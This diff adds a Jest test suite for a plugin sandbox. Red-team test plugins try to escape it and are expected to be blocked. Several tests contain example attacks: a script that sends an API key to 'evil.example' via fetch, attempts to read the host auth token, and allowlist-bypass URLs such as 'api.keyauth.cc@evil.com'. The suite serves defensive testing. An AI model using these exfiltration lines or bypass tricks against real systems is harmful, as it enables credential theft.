@@ -0,0 +1,652 @@
+// ============================================================================
+// Plugin Sandbox Tests - escape attempts against the execution runtime
+// ============================================================================
+
+import { ReadableStream } from 'stream/web';
+import { Worker } from 'worker_threads';
+import { PluginSandbox, SandboxedPlugin, type SandboxStorageArea } from '../PluginSandbox';
+import type { SandboxRealmFactory } from '../SandboxRealm';
+import {
+  SandboxViolationError,
+  SandboxedAPI,
+  SecurityContext,
+  createSecurityPolicy,
+} from '../sandbox';
+import { PluginManager } from '../../core/plugin/PluginManager';
+import { pluginRegistry } from '../../core/plugin/PluginRegistry';
+import { BasePlugin } from '../../types/plugin';
+import { PluginStatus, ProductCategory } from '../../types';
+import type {
+  DeliveryResult,
+  PluginConfig,
+  PluginContext,
+  PluginSandboxGrants,
+  PluginStorageAPI,
+  ValidationResult,
+} from '../../types';
+import type { PluginAPI } from '../../sdk/types';
+
+type Attack = (context: PluginContext, plugin: HostilePlugin) => Promise<unknown>;
+
+function hostileConfig(id: string, sandbox: PluginSandboxGrants): PluginConfig {
+  return {
+    id,
+    name: id,
+    version: '1.0.0',
+    description: 'Tries to get out of the sandbox',
+    author: 'Red Team',
+    category: ProductCategory.DIGITAL_GOODS,
+    status: PluginStatus.INACTIVE,
+    isEnabled: false,
+    metadata: {},
+    sandbox,
+  };
+}
+
+class HostilePlugin extends BasePlugin {
+  config: PluginConfig;
+
+  constructor(
+    id: string,
+    sandbox: PluginSandboxGrants,
+    private readonly attack: Attack
+  ) {
+    super();
+    this.config = hostileConfig(id, sandbox);
+  }
+
+  async initialize(): Promise<void> {}
+
+  async validateConfig(): Promise<ValidationResult> {
+    return { isValid: true, errors: [] };
+  }
+
+  async processOrder(context: PluginContext): Promise<DeliveryResult> {
+    return { success: true, deliveryData: await this.attack(context, this) };
+  }
+
+  async validateProduct(): Promise<ValidationResult> {
+    return { isValid: true, errors: [] };
+  }
+}
+
+function hostContext(): PluginContext {
+  return {
+    order: { id: 'ord-1', totalAmount: 10, items: [{ productId: 'prod-1', quantity: 1 }] },
+    product: { id: 'prod-1', name: 'License', price: 10, metadata: {} },
+    user: { id: 'user-1', email: 'buyer@example.com' },
+    config: { apiKey: 'secret' },
+    logger: { info: jest.fn(), warn: jest.fn(), error: jest.fn(), debug: jest.fn() },
+  } as unknown as PluginContext;
+}
+
+class MemoryStorage implements SandboxStorageArea {
+  private items = new Map<string, string>();
+
+  get length(): number {
+    return this.items.size;
+  }
+
+  key(index: number): string | null {
+    return [...this.items.keys()][index] ?? null;
+  }
+
+  getItem(key: string): string | null {
+    return this.items.get(key) ?? null;
+  }
+
+  setItem(key: string, value: string): void {
+    this.items.set(key, value);
+  }
+
+  removeItem(key: string): void {
+    this.items.delete(key);
+  }
+}
+
+function okResponse(body: ReadableStream<Uint8Array> | null = null): Response {
+  const response = {
+    ok: true,
+    status: 200,
+    statusText: 'OK',
+    headers: { get: () => null, forEach: () => undefined },
+    body,
+    clone: () => {
+      const [own, copy] = response.body ? response.body.tee() : [null, null];
+      response.body = own;
+      return okResponse(copy);
+    },
+    text: async () => 'pong',
+  };
+  return response as unknown as Response;
+}
+
+/** A body of `chunks` chunks of 1MB, sent without a content-length; counts the chunks read */
+function streamedBody(chunks: number): { body: ReadableStream<Uint8Array>; pulled: () => number } {
+  let pulled = 0;
+  const body = new ReadableStream<Uint8Array>({
+    pull(controller) {
+      if (pulled === chunks) {
+        controller.close();
+        return;
+      }
+      pulled++;
+      controller.enqueue(new Uint8Array(1024 * 1024));
+    },
+  });
+  return { body, pulled: () => pulled };
+}
+
+// Stands in for a browser worker: a message-passing global scope without Node's modules or process
+const WORKER_SHIM = `(function () {
+  const { parentPort } = require('worker_threads');
+  globalThis.postMessage = message => parentPort.postMessage(message);
+  globalThis.addEventListener = (type, listener) => parentPort.on(type, data => listener({ data }));
+  ['require', 'process', 'module', 'exports', '__filename', '__dirname'].forEach(
+    name => delete globalThis[name]
+  );
+})();
+`;
+
+const terminated = jest.fn();
+
+const workerRealm: SandboxRealmFactory = script => {
+  const worker = new Worker(WORKER_SHIM + script, { eval: true });
+  return {
+    send: message => worker.postMessage(message),
+    onMessage: listener => worker.on('message', listener),
+    onError: listener => worker.on('error', (error: Error) => listener({ message: error.message })),
+    terminate: () => {
+      terminated();
+      void worker.terminate();
+    },
+  };
+};
+
+describe('PluginSandbox', () => {
+  let securityContext: SecurityContext;
+  let fetchImpl: jest.Mock;
+  let storageArea: MemoryStorage;
+  let sandbox: PluginSandbox;
+  let manager: PluginManager;
+
+  const violations = (pluginId: string) =>
+    securityContext
+      .getResourceMonitor()
+      .getViolations(pluginId)
+      .map(violation => violation.action);
+
+  async function execute(
+    id: string,
+    grants: PluginSandboxGrants,
+    attack: Attack,
+    context: PluginContext = hostContext()
+  ): Promise<DeliveryResult> {
+    if (!pluginRegistry.get(id)) {
+      await manager.registerPlugin(new HostilePlugin(id, grants, attack));
+      await manager.enablePlugin(id);
+    }
+    return manager.executePlugin(id, context);
+  }
+
+  beforeEach(() => {
+    storageArea = new MemoryStorage();
+    storageArea.setItem('mtyb_auth_token', 'host-session');
+    securityContext = new SecurityContext();
+    fetchImpl = jest.fn(async () => okResponse());
+    sandbox = new PluginSandbox(securityContext, fetchImpl, storageArea, workerRealm);
+    manager = new PluginManager(sandbox);
+  });
+
+  afterEach(async () => {
+    await pluginRegistry.cleanup();
+    jest.useRealTimers();
+    terminated.mockClear();
+  });
+
+  describe('host isolation', () => {
+    it('should run executions on a copy the plugin cannot use to change host state', async () => {
+      const context = hostContext();
+      const hostLogger = context.logger.info;
+
+      const result = await execute(
+        'mutator',
+        {},
+        async sandboxed => {
+          sandboxed.order.totalAmount = 0;
+          sandboxed.order.items.forEach(item => {
+            item.quantity = 999;
+          });
+          sandboxed.config.apiKey = 'stolen';
+          let loggerReplaced = true;
+          try {
+            sandboxed.logger.info = () => undefined;
+          } catch {
+            loggerReplaced = false;
+          }
+          return { loggerReplaced, sameOrder: sandboxed.order === context.order };
+        },
+        context
+      );
+
+      expect(result.deliveryData).toEqual({ loggerReplaced: false, sameOrder: false });
+      expect(context.order.totalAmount).toBe(10);
+      expect(context.order.items[0]?.quantity).toBe(1);
+      expect(context.config.apiKey).toBe('secret');
+      expect(context.logger.info).toBe(hostLogger);
+    });
+
+    it('should not hand host functions to the plugin', async () => {
+      const context = hostContext();
+      context.product.metadata = { reveal: () => 'host internals', sku: 'LIC-1' };
+
+      const result = await execute(
+        'reacher',
+        {},
+        async sandboxed => ({
+          reveal: typeof sandboxed.product.metadata.reveal,
+          sku: sandboxed.product.metadata.sku,
+        }),
+        context
+      );
+
+      expect(result.deliveryData).toEqual({ reveal: 'undefined', sku: 'LIC-1' });
+    });
+  });
+
+  describe('network policy', () => {
+    const grants = { allowedDomains: ['api.keyauth.cc'] };
+
+    it('should only reach allowlisted hosts over https, without cookies or redirects', async () => {
+      const attempts = [
+        'https://api.keyauth.cc.evil.com/steal',
+        'https://api.keyauth.cc@evil.com/steal',
+        'https://evil-api.keyauth.cc.example/steal',
+        'http://api.keyauth.cc/v1',
+        'https://api.keyauth.cc:8443/v1',
+        'javascript:alert(1)',
+      ];
+
+      const result = await execute('exfiltrator', grants, async sandboxed => {
+        const blocked: string[] = [];
+        for (const url of attempts) {
+          await sandboxed.network!.fetch(url).catch((error: unknown) => {
+            if (error instanceof SandboxViolationError) blocked.push(url);
+          });
+        }
+        await sandboxed.network!.fetch('https://api.keyauth.cc/v1', { method: 'POST' });
+        return blocked;
+      });
+
+      expect(result.deliveryData).toEqual(attempts);
+      expect(fetchImpl).toHaveBeenCalledTimes(1);
+      expect(fetchImpl).toHaveBeenCalledWith('https://api.keyauth.cc/v1', {
+        method: 'POST',
+        credentials: 'omit',
+        redirect: 'error',
+      });
+      expect(violations('exfiltrator')).toEqual(
+        expect.arrayContaining(['domain_not_allowed', 'https_required', 'port_not_allowed'])
+      );
+    });
+
+    it('should deny network access to plugins without allowed domains', async () => {
+      await expect(
+        execute('offline', {}, sandboxed => sandboxed.network!.fetch('https://api.keyauth.cc/'))
+      ).rejects.toThrow(SandboxViolationError);
+
+      expect(fetchImpl).not.toHaveBeenCalled();
+      expect(violations('offline')).toEqual(['permission_denied']);
+    });
+
+    it('should stop a plugin at its request rate', async () => {
+      const result = await execute(
+        'flooder',
+        { ...grants, networkRequestsPerMinute: 2 },
+        async sandboxed => {
+          const outcomes = [];
+          for (let i = 0; i < 3; i++) {
+            outcomes.push(
+              await sandboxed.network!.fetch('https://api.keyauth.cc/ping').then(
+                () => 'sent',
+                () => 'blocked'
+              )
+            );
+          }
+          return outcomes;
+        }
+      );
+
+      expect(result.deliveryData).toEqual(['sent', 'sent', 'blocked']);
+      expect(violations('flooder')).toEqual(['request_limit_exceeded']);
+    });
+
+    it('should measure request bodies of every kind against the size limit', async () => {
+      const oversized = 1024 * 1024 + 1;
+      const bodies: BodyInit[] = [
+        new Blob([new Uint8Array(oversized)]),
+        new Uint8Array(oversized),
+        new URLSearchParams({ data: 'x'.repeat(oversized) }),
+        // Fewer characters than the limit, but two bytes each
+        'é'.repeat(512 * 1024 + 1),
+      ];
+
+      const result = await execute('uploader', grants, async sandboxed => {
+        const outcomes = [];
+        for (const body of bodies) {
+          outcomes.push(
+            await sandboxed
+              .network!.fetch('https://api.keyauth.cc/upload', {
+                method: 'POST',
+                body,
+              })
+              .then(
+                () => 'sent',
+                () => 'blocked'
+              )
+          );
+        }
+        return outcomes;
+      });
+
+      expect(result.deliveryData).toEqual(['blocked', 'blocked', 'blocked', 'blocked']);
+      expect(fetchImpl).not.toHaveBeenCalled();
+      expect(violations('uploader')).toEqual(Array(4).fill('request_too_large'));
+    });
+
+    it('should stop reading a response once it passes the size limit', async () => {
+      const { body, pulled } = streamedBody(100);
+      fetchImpl.mockResolvedValueOnce(okResponse(body));
+
+      await expect(
+        execute('downloader', grants, sandboxed =>
+          sandboxed.network!.fetch('https://api.keyauth.cc/dump')
+        )
+      ).rejects.toThrow(SandboxViolationError);
+
+      // The 5MB limit is passed on the sixth chunk; the streams read a few ahead, not all 100
+      expect(pulled()).toBeLessThan(10);
+      expect(violations('downloader')).toEqual(['response_too_large']);
+    });
+
+    it('should pass on responses within the size limit', async () => {
+      const { body } = streamedBody(2);
+      fetchImpl.mockResolvedValueOnce(okResponse(body));
+
+      const result = await execute('reader', grants, async sandboxed => {
+        const response = await sandboxed.network!.fetch('https://api.keyauth.cc/small');
+        return response.status;
+      });
+
+      expect(result.deliveryData).toBe(200);
+      expect(violations('reader')).toEqual([]);
+    });
+
+    it('should keep the grants taken at registration when the plugin edits its config', async () => {
+      const attack: Attack = async (sandboxed, plugin) => {
+        plugin.config.sandbox!.allowedDomains!.push('evil.com');
+        return sandboxed.network!.fetch('https://evil.com/').then(
+          () => 'sent',
+          () => 'blocked'
+        );
+      };
+
+      const first = await execute('escalator', grants, attack);
+      const second = await execute('escalator', grants, attack);
+
+      expect([first.deliveryData, second.deliveryData]).toEqual(['blocked', 'blocked']);
+      expect(fetchImpl).not.toHaveBeenCalled();
+    });
+  });
+
+  describe('storage policy', () => {
+    it('should confine each plugin to its own namespace', async () => {
+      const run = (id: string, attack: (storage: PluginStorageAPI) => Promise<unknown>) =>
+        sandbox.run(new HostilePlugin(id, {}, async () => null).config, hostContext(), sandboxed =>
+          attack(sandboxed.storage!)
+        );
+
+      await run('shop', storage => storage.set('admin:token', 'shop'));
+      // Registered ids cannot contain ':', but the namespaces do not rely on it
+      await run('shop:admin', storage => storage.set('token', 'admin'));
+      const snooped = await run('snooper', async storage => ({
+        keys: await storage.keys(),
+        hostToken: await storage.get('mtyb_auth_token'),
+        traversal: await storage.get('../shop:admin:token'),
+      }));
+
+      expect(snooped).toEqual({ keys: [], hostToken: null, traversal: null });
+      expect(await run('shop', storage => storage.keys())).toEqual(['admin:token']);
+      expect(await run('shop', storage => storage.get('admin:token'))).toBe('shop');
+      expect(storageArea.getItem('mtyb_auth_token')).toBe('host-session');
+    });
+
+    it('should enforce the storage quota and key limit', async () => {
+      const result = await execute(
+        'hoarder',
+        { storageQuotaMB: 0.001, maxStorageKeys: 2 },
+        async sandboxed => {
+          const attempt = (key: string, value: string) =>
+            sandboxed.storage!.set(key, value).then(
+              () => 'stored',
+              () => 'blocked'
+            );
+          return [
+            await attempt('a', 'x'.repeat(100)),
+            await attempt('b', 'x'.repeat(1000)),
+            await attempt('b', 'x'),
+            await attempt('c', 'x'),
+            await attempt('a', 'y'),
+          ];
+        }
+      );
+
+      expect(result.deliveryData).toEqual(['stored', 'blocked', 'stored', 'blocked', 'stored']);
+      expect(violations('hoarder')).toEqual(['storage_quota_exceeded', 'key_limit_exceeded']);
+    });
+  });
+
+  describe('execution limits', () => {
+    it('should stop executions at their time limit', async () => {
+      jest.useFakeTimers();
+      let signal: AbortSignal | undefined;
+
+      const execution = execute('staller', { executionTimeoutMs: 1000 }, sandboxed => {
+        signal = sandboxed.signal;
+        return new Promise(() => {});
+      });
+      const outcome = expect(execution).rejects.toThrow('exceeded its 1000ms limit');
+      await jest.advanceTimersByTimeAsync(1000);
+
+      await outcome;
+      expect(violations('staller')).toEqual(['execution_time_exceeded']);
+      expect(signal?.aborted).toBe(true);
+    });
+
+    it('should hold health checks to the time limit', async () => {
+      jest.useFakeTimers();
+      const plugin = new HostilePlugin('hanger', { executionTimeoutMs: 1000 }, async () => null);
+      plugin.healthCheck = () => new Promise(() => {});
+      await manager.registerPlugin(plugin);
+
+      const health = manager.checkPluginHealth('hanger');
+      await jest.advanceTimersByTimeAsync(1000);
+
+      expect(await health).toEqual(
+        expect.objectContaining({
+          isHealthy: false,
+          error: expect.stringContaining('exceeded its 1000ms limit'),
+        })
+      );
+      expect(violations('hanger')).toEqual(['execution_time_exceeded']);
+    });
+
+    it('should keep a timed-out execution in flight until its code stops', async () => {
+      let finish: () => void = () => undefined;
+      await expect(
+        execute(
+          'lingerer',
+          { executionTimeoutMs: 50 },
+          () => new Promise<void>(resolve => (finish = resolve))
+        )
+      ).rejects.toThrow('exceeded its 50ms limit');
+
+      let swapped = false;
+      const swap = manager
+        .hotSwapPlugin(new HostilePlugin('lingerer', {}, async () => 'v2'))
+        .then(() => (swapped = true));
+      await new Promise(resolve => setTimeout(resolve, 20));
+      expect(swapped).toBe(false);
+
+      finish();
+      await swap;
+      expect((await execute('lingerer', {}, async () => null)).deliveryData).toBe('v2');
+    });
+
+    it('should revoke capabilities the plugin keeps after its execution ends', async () => {
+      let stolen: PluginContext | null = null;
+      await execute('hoarding-thief', { allowedDomains: ['api.keyauth.cc'] }, async sandboxed => {
+        stolen = sandboxed;
+      });
+
+      await expect(stolen!.storage!.set('later', 'x')).rejects.toThrow(SandboxViolationError);
+      await expect(stolen!.network!.fetch('https://api.keyauth.cc/')).rejects.toThrow(
+        SandboxViolationError
+      );
+
+      expect(fetchImpl).not.toHaveBeenCalled();
+      expect(violations('hoarding-thief')).toEqual(['capability_revoked', 'capability_revoked']);
+    });
+  });
+
+  describe('sandboxed plugins', () => {
+    async function executeScript(
+      id: string,
+      grants: PluginSandboxGrants,
+      script: string
+    ): Promise<DeliveryResult> {
+      if (!pluginRegistry.get(id)) {
+        await manager.registerPlugin(
+          new SandboxedPlugin(hostileConfig(id, grants), script, sandbox)
+        );
+        await manager.enablePlugin(id);
+      }
+      return manager.executePlugin(id, hostContext());
+    }
+
+    it('should give the script no way to the host network or storage but its context', async () => {
+      const result = await executeScript(
+        'smuggler',
+        {},
+        `module.exports = {
+          async processOrder(context) {
+            const attacks = {
+              fetch: () => fetch('https://evil.example/?key=' + context.config.apiKey),
+              localStorage: () => localStorage.getItem('mtyb_auth_token'),
+              window: () => window.localStorage.setItem('mtyb_auth_token', 'stolen'),
+              globalFetch: () => globalThis.fetch('https://evil.example/'),
+              xhr: () => new XMLHttpRequest(),
+            };
+            const outcomes = {};
+            for (const name of Object.keys(attacks)) {
+              try {
+                await attacks[name]();
+                outcomes[name] = 'reached';
+              } catch (error) {
+                outcomes[name] = error.name;
+              }
+            }
+            return { success: true, deliveryData: outcomes };
+          }
+        };`
+      );
+
+      expect(result.deliveryData).toEqual({
+        fetch: 'ReferenceError',
+        localStorage: 'ReferenceError',
+        window: 'ReferenceError',
+        globalFetch: 'TypeError',
+        xhr: 'ReferenceError',
+      });
+      expect(fetchImpl).not.toHaveBeenCalled();
+      expect(storageArea.getItem('mtyb_auth_token')).toBe('host-session');
+      expect(terminated).toHaveBeenCalledTimes(1);
+    });
+
+    it('should hold the script to its policy through the capability context', async () => {
+      const result = await executeScript(
+        'courier',
+        { allowedDomains: ['api.keyauth.cc'] },
+        `module.exports = {
+          async processOrder(context) {
+            const blocked = await context.network.fetch('https://evil.example/').then(
+              () => null,
+              error => error.name
+            );
+            const response = await context.network.fetch('https://api.keyauth.cc/v1');
+            await context.storage.set('license', context.order.id);
+            return {
+              success: true,
+              deliveryData: {
+                blocked,
+                body: await response.text(),
+                stored: await context.storage.get('license'),
+                snooped: await context.storage.get('../mtyb_auth_token'),
+              },
+            };
+          }
+        };`
+      );
+
+      expect(result.deliveryData).toEqual({
+        blocked: 'SandboxViolationError',
+        body: 'pong',
+        stored: 'ord-1',
+        snooped: null,
+      });
+      expect(fetchImpl).toHaveBeenCalledTimes(1);
+      expect(fetchImpl).toHaveBeenCalledWith('https://api.keyauth.cc/v1', {
+        credentials: 'omit',
+        redirect: 'error',
+      });
+      expect(violations('courier')).toEqual(['domain_not_allowed']);
+      expect(storageArea.getItem('mtyb_auth_token')).toBe('host-session');
+    });
+
+    it('should terminate a script stuck in a synchronous loop at its time limit', async () => {
+      await expect(
+        executeScript(
+          'spinner',
+          { executionTimeoutMs: 300 },
+          'module.exports = { processOrder() { while (true) {} } };'
+        )
+      ).rejects.toThrow('exceeded its 300ms limit');
+
+      expect(terminated).toHaveBeenCalledTimes(1);
+      expect(violations('spinner')).toEqual(['execution_time_exceeded']);
+
+      // Nothing of the old script is still running, so the swap does not wait on it
+      await manager.hotSwapPlugin(
+        new SandboxedPlugin(
+          hostileConfig('spinner', { executionTimeoutMs: 300 }),
+          "module.exports = { processOrder: async () => ({ success: true, deliveryData: 'v2' }) };",
+          sandbox
+        )
+      );
+      expect((await manager.executePlugin('spinner', hostContext())).deliveryData).toBe('v2');
+    });
+  });
+
+  describe('SDK API wrapper', () => {
+    it('should deny storage calls the policy does not grant', async () => {
+      const policy = { ...createSecurityPolicy('widget'), permissions: [] };
+      securityContext.registerPlugin('widget', policy);
+      const original = { storage: { get: jest.fn() } } as unknown as PluginAPI;
+
+      const api = new SandboxedAPI(securityContext, 'widget', original);
+
+      await expect(api.storage.get('token')).rejects.toThrow('Storage read permission denied');
+      expect(original.storage.get).not.toHaveBeenCalled();
+    });
+  });
+});